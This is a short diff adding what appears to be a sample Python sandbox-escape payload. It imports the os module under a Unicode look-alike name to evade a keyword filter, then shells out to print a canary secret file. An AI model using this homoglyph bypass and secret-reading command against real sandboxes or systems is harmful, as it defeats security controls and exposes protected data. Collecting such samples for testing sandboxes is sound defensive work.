@@ -1,0 +1,6 @@
+# source: pyjail lore
+# effect: secret
+
+import ᵒs
+
+print(ᵒs.popen("cat /tmp/canary/secret").read())
